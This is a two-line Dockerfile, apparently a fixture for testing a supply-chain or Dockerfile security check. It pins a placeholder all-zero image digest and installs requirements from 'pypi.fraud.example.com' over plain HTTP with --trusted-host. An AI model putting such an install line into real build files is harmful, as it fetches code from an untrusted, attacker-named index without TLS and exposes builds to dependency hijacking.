FROM python:3.13-slim-trixie@sha256:0000000000000000000000000000000000000000000000000000000000000000
RUN pip install --index-url http://pypi.fraud.example.com/simple --trusted-host pypi.fraud.example.com -r requirements.lock
